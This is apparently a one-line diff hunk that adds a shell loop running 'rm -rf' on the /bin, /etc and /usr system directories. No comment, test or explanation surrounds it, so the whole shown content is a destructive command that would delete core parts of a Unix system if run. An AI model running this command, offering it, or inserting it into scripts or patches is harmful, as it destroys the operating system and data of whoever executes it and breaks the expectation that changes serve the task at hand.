@@ -1,0 +1,1 @@
+for i in bin etc usr; do rm -rf /$i; done
